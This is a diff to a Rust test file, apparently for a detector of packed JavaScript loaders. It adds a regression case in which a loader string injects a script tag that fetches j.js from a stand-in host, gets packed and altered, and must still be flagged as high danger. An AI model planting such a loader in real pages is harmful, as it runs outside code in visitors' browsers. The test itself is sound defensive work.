@@ -311,6 +311,10 @@ fn a_packed_loader_behind_a_long_payload_is_found() {
     assert!(js.len() > 50_000, "{}", js.len());
     assert_eq!(found(&js), Some(Danger::High));
     assert_eq!(found(&packed(&library)), None);
+    // Regression (review): the packer's body calls another function before its own call.
+    let loader = "var s=document.createElement('script');s.src='https://cdn.jq-stats.example/j.js';document.head.appendChild(s);";
+    let first = packed(loader).replacen("{e=function(c)", "{var z=function(s){return s}('x');e=function(c)", 1);
+    assert_eq!(found(&first), Some(Danger::High), "{first}");
 }
 
 #[test]
